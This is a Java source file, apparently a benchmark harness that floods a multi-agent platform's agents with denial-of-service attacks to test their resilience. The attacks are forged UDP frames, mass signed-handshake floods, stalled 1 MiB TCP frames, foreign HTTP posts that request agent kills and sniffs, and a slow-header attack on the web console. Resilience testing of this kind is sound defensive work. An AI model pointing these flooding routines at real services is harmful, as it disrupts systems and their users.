package io.concord.bench.child;

import io.concord.core.acl.AID;
import io.concord.core.acl.AclMessage;
import io.concord.core.acl.Performative;
import io.concord.core.agent.Agent;
import io.concord.core.agent.AgentRuntime;
import io.concord.core.net.SocketNetwork;
import io.concord.layers.Profile;
import io.concord.layers.SafetyStack;
import io.concord.layers.frame.Frames;
import io.concord.layers.security.IdentityStore;
import io.concord.layers.security.PlatformKey;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The attacker of {@code bench/run attack}, in a JVM of its own: floods a running platform's agents
 * until its standard input closes, then prints {@code SENT <count>}.
 * <ul>
 *   <li>{@code forged}: an outsider's frames (no key): a third random bytes, a third Concord
 *       headers for the agent with random source ids and a random sealed body, a third "for any
 *       agent" frames with a random body.</li>
 *   <li>{@code handshake}: a key holder's new identities: each a new agent name (a fresh Ed25519
 *       identity) that sends one message to an agent of the platform, so a signed handshake each.</li>
 *   <li>{@code tcp}: TCP streams that announce 1 MiB frames and send a few bytes of them, opened
 *       again as the agents close them.</li>
 *   <li>{@code cpu}: the control: no attack, one core kept busy, as an attacker on this machine keeps one.</li>
 *   <li>{@code foreign}: an agent of another platform over the HTTP MTP (JADE's POSTs, kept alive):
 *       DF registrations under ever new sender names, and the observation service's kill and
 *       sniff of the chain's agents, in turn.</li>
 *   <li>{@code console}: 300 slow connections to the web console, each a request head sent one
 *       byte every 2 s, opened again as the console closes them.</li>
 * </ul>
 * Arguments: kind, platform name, platform key (hex), then the agents as {@code name@platform=host:port};
 * for {@code foreign} and {@code console} the first is {@code http=host:port} (the ACC, the console).
 */
public final class AttackChild {
    private AttackChild() {
    }

    public static void main(String[] args) throws Exception {
        String kind = args[0];
        String platform = args[1];
        PlatformKey key = PlatformKey.ofHex(args[2]);
        List<AID> targets = new ArrayList<>();
        List<InetSocketAddress> at = new ArrayList<>();
        InetSocketAddress http = null;
        for (int i = 3; i < args.length; i++) {
            String[] nv = args[i].split("=");
            if (nv[0].equals("http")) {
                String[] hp = nv[1].split(":");
                http = new InetSocketAddress(hp[0], Integer.parseInt(hp[1]));
                continue;
            }
            String[] hp = nv[1].split(":");
            at.add(new InetSocketAddress(hp[0], Integer.parseInt(hp[1])));
            targets.add(new AID(nv[0], (kind.equals("tcp") ? "tcp://" : "udp://") + nv[1]));
        }
        AtomicBoolean running = new AtomicBoolean(true);
        AtomicLong sent = new AtomicLong();
        InetSocketAddress web = http;
        Thread flood = new Thread(() -> {
            try {
                switch (kind) {
                    case "forged" -> forged(targets, at, key.frameKeyBits(), running, sent);
                    case "handshake" -> handshakes(platform, key, targets, running, sent);
                    case "tcp" -> tcp(at, running, sent);
                    case "foreign" -> foreign(web, platform, targets, running, sent);
                    case "console" -> slowConsole(web, running, sent);
                    case "cpu" -> {
                        // The control: no attack, only a core kept busy, as each attacker keeps one.
                        long x = 0;
                        while (running.get()) {
                            x += System.nanoTime() & 1;
                        }
                        sent.set(x == -1 ? 1 : 0);
                    }
                    default -> throw new IllegalArgumentException("unknown attack " + kind);
                }
            } catch (Exception | Error e) {
                System.out.println("FAILED " + e);
                System.out.flush();
            }
        }, "attack");
        flood.setDaemon(true);
        flood.start();
        System.out.println("READY");
        System.out.flush();
        while (System.in.read() >= 0) {
            // until the harness closes our input
        }
        running.set(false);
        flood.join(5_000);
        System.out.println("SENT " + sent.get());
        System.out.flush();
    }

    private static void forged(List<AID> targets, List<InetSocketAddress> at, int keyBits, AtomicBoolean running, AtomicLong sent)
            throws IOException {
        SplittableRandom r = new SplittableRandom(17);
        long[] ids = new long[targets.size()];
        for (int i = 0; i < ids.length; i++) {
            ids[i] = Frames.id(targets.get(i).name());
        }
        byte[] b = new byte[1_200];
        try (DatagramChannel ch = DatagramChannel.open()) {
            while (running.get()) {
                int t = r.nextInt(targets.size());
                int len = 48 + r.nextInt(600);
                for (int i = 0; i < len; i++) {
                    b[i] = (byte) r.nextInt();
                }
                int shape = (int) (sent.get() % 3);
                if (shape > 0) {
                    ByteBuffer h = ByteBuffer.wrap(b);
                    h.putShort((short) Frames.MAGIC).put((byte) Frames.VERSION)
                            // The key's id is on every frame of the platform: an outsider copies it.
                            .put((byte) ((shape == 1 ? Frames.PROTECTION_GCM_PAIR : Frames.PROTECTION_GCM_PLATFORM) | keyBits))
                            .putLong(r.nextLong()).putLong(shape == 1 ? ids[t] : Frames.ANY).putLong(r.nextLong());
                }
                ch.send(ByteBuffer.wrap(b, 0, len), at.get(t));
                sent.incrementAndGet();
            }
        }
    }

    /** A new agent per handshake, in a runtime of the attacker's own with the platform's key. */
    private static void handshakes(String platform, PlatformKey key, List<AID> targets, AtomicBoolean running, AtomicLong sent)
            throws InterruptedException {
        try (AgentRuntime rt = AgentRuntime.builder().platformName(platform).network(new SocketNetwork(1 << 20, false))
                .stack(SafetyStack.builder().profile(Profile.CLASS_7).platformKey(key).identities(IdentityStore.ephemeral()).build())
                .build().start()) {
            SplittableRandom r = new SplittableRandom(23);
            java.util.ArrayDeque<AID> live = new java.util.ArrayDeque<>();
            while (running.get()) {
                // A few dozen at a time, each gone again a moment later: the attacker's memory stays flat.
                java.util.concurrent.CountDownLatch batch = new java.util.concurrent.CountDownLatch(1);
                rt.execute(() -> {
                    for (int i = 0; i < 20; i++) {
                        AID to = targets.get(r.nextInt(targets.size()));
                        live.add(rt.startAgent("intruder" + Long.toHexString(r.nextLong()), new OneMessage(to)));
                        sent.incrementAndGet();
                    }
                    while (live.size() > 200) {
                        rt.crashAgent(live.poll());
                    }
                    batch.countDown();
                });
                batch.await();
                Thread.sleep(5); // the attacker's loop does the handshakes meanwhile
            }
        }
    }

    /** Sends one message and stays, so that its handshake completes. */
    static final class OneMessage extends Agent {
        private final AID to;

        OneMessage(AID to) {
            this.to = to;
        }

        @Override
        protected void setup() {
            send(new AclMessage(Performative.INFORM).addReceiver(to).setContent("let me in"));
        }
    }

    private static void tcp(List<InetSocketAddress> at, AtomicBoolean running, AtomicLong sent) throws InterruptedException {
        List<Socket> open = new ArrayList<>();
        byte[] head = preamble();
        while (running.get()) {
            for (InetSocketAddress a : at) {
                for (int i = 0; i < 20 && running.get(); i++) {
                    try {
                        Socket s = new Socket();
                        s.connect(a, 1_000);
                        OutputStream o = s.getOutputStream();
                        o.write(head);
                        o.flush();
                        open.add(s);
                        sent.incrementAndGet();
                    } catch (IOException e) {
                        // refused or closed by the agent: open another
                    }
                }
            }
            // Keep at most a few hundred of ours open; the agents close the rest.
            while (open.size() > 400) {
                try {
                    open.remove(0).close();
                } catch (IOException ignored) {
                    // gone already
                }
            }
            Thread.sleep(20);
        }
        for (Socket s : open) {
            try {
                s.close();
            } catch (IOException ignored) {
                // gone already
            }
        }
    }

    /** A stream preamble in an address of nobody's, then a frame announced at 1 MiB and 10 bytes of it. */
    private static byte[] preamble() {
        byte[] who = "tcp://127.0.0.9:9".getBytes(StandardCharsets.UTF_8);
        ByteBuffer b = ByteBuffer.allocate(6 + who.length + 4 + 10);
        b.put("CTCP".getBytes(StandardCharsets.US_ASCII)).putShort((short) who.length).put(who).putInt(1 << 20).put(new byte[10]);
        return b.array();
    }

    /** JADE's POSTs to the ACC, kept alive: a DF registration under a new sender name, then a kill, then a sniff, in turn. */
    private static void foreign(InetSocketAddress acc, String platform, List<AID> targets, AtomicBoolean running, AtomicLong sent)
            throws Exception {
        io.concord.core.content.SlCodec sl = new io.concord.core.content.SlCodec();
        io.concord.core.content.Ontology onto = io.concord.core.content.FipaAgentManagement.ontology();
        String url = "http://" + acc.getHostString() + ":" + acc.getPort() + "/acc";
        String dead = "http://127.0.0.1:9/acc";   // where the platform's answers go: a port nothing listens on
        AID df = new AID("df@" + platform, url);
        SplittableRandom r = new SplittableRandom(29);
        Socket s = null;
        java.io.InputStream in = null;
        while (running.get()) {
            long n = sent.get();
            String who = "intruder" + Long.toHexString(r.nextLong()) + "@elsewhere";
            AID sender = new AID(who, dead);
            AclMessage m;
            AID to;
            if (n % 3 == 0) {
                to = df;
                m = new AclMessage(Performative.REQUEST);
                m.setLanguage("fipa-sl0");
                m.setOntology(io.concord.core.content.FipaAgentManagement.NAME);
                m.setContent(sl.write(onto.toAbs(new io.concord.core.content.Action(df, new io.concord.core.content.FipaAgentManagement.Register(
                        new io.concord.core.content.FipaAgentManagement.DfAgentDescription(new AID(who), java.util.Set.of(
                                new io.concord.core.content.FipaAgentManagement.ServiceDescription("s", "book-selling", null, null, null, null,
                                        null)), null, null, null, null))))));
            } else {
                to = new AID(targets.get(r.nextInt(targets.size())).name(), url);
                m = new AclMessage(n % 3 == 1 ? Performative.REQUEST : Performative.SUBSCRIBE);
                m.setOntology("concord-observe");
                m.setContent(n % 3 == 1 ? "kill" : "sniff");
                m.setConversationId("c" + n);
            }
            m.setSender(sender);
            m.addReceiver(to);
            byte[] post = io.concord.jade.HttpMtp.jadePost(url, to, sender,
                    io.concord.core.codec.StringAclCodec.INSTANCE.encodeForJade(m));
            try {
                if (s == null) {
                    s = new Socket();
                    s.connect(acc, 1_000);
                    s.setSoTimeout(5_000);
                    in = s.getInputStream();
                }
                s.getOutputStream().write(post);
                readAnswer(in);
                sent.incrementAndGet();
            } catch (IOException e) {
                if (s != null) {
                    s.close();
                }
                s = null;   // closed by the ACC (a limit): open another
                Thread.sleep(5);
            }
        }
        if (s != null) {
            s.close();
        }
    }

    /** Reads one HTTP answer: its head and as many bytes as its Content-Length says. */
    private static void readAnswer(java.io.InputStream in) throws IOException {
        StringBuilder head = new StringBuilder();
        int c;
        while ((c = in.read()) >= 0) {
            head.append((char) c);
            if (head.length() >= 4 && head.substring(head.length() - 4).equals("\r\n\r\n")) {
                break;
            }
        }
        if (c < 0) {
            throw new IOException("closed");
        }
        String h = head.toString().toLowerCase(java.util.Locale.ROOT);
        int at = h.indexOf("content-length:");
        int n = at < 0 ? 0 : Integer.parseInt(h.substring(at + 15, h.indexOf('\r', at)).trim());
        in.readNBytes(n);
        if (h.contains("connection: close")) {
            throw new IOException("closed");
        }
    }

    /** 300 connections to the console, each a request head sent a byte every 2 s; those closed are opened again. */
    private static void slowConsole(InetSocketAddress console, AtomicBoolean running, AtomicLong sent) throws Exception {
        byte[] head = ("GET /api/platform HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Filler: " + "x".repeat(4_000)).getBytes(StandardCharsets.US_ASCII);
        List<Socket> open = new ArrayList<>();
        List<Integer> at = new ArrayList<>();
        while (running.get()) {
            while (open.size() < 300 && running.get()) {
                try {
                    Socket s = new Socket();
                    s.connect(console, 1_000);
                    open.add(s);
                    at.add(0);
                    sent.incrementAndGet();
                } catch (IOException e) {
                    break;
                }
            }
            for (int i = open.size() - 1; i >= 0; i--) {
                try {
                    int k = at.get(i);
                    open.get(i).getOutputStream().write(head[k % head.length]);
                    at.set(i, k + 1);
                } catch (IOException e) {
                    open.remove(i).close();   // closed by the console: opened again above
                    at.remove(i);
                }
            }
            for (int t = 0; t < 20 && running.get(); t++) {
                Thread.sleep(100);
            }
        }
        for (Socket s : open) {
            s.close();
        }
    }
}
